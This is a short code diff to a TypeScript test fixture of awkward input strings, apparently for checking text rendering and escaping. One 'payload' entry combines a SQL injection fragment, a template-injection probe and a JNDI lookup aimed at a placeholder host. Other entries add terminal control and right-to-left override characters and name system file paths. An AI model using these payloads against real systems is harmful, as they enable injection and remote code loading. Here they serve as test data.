@@ -53,7 +53,9 @@ const LINES: Readonly<Record<string, string>> = {
   signs: '# no heading? #hash $money$ @label <label> "quotes" \'single\' — … ®',
   vietnamese: 'Lỗ hổng cho phép đọc dữ liệu của người khác — nghiêm trọng',
   paths: 'C:\\Windows\\System32\\cmd.exe and /etc/passwd',
-  payload: "' OR 1=1 -- and {{7*7}} and ${jndi:ldap://a.example/x}",
+  payload: "' OR 1=1 -- and {{7*7}} and $" + '{jndi:ldap://a.example/x}',
+  controls: 'a\u0003b\u001b[31mred\u007f and \u202eback',
+  controlsInCode: '```\na\u0003b\u001b[31mred\u007f and \u202eback\n```',
   nested: '**bold *both `code` both* bold**',
   longWord: 'x'.repeat(400),
 };
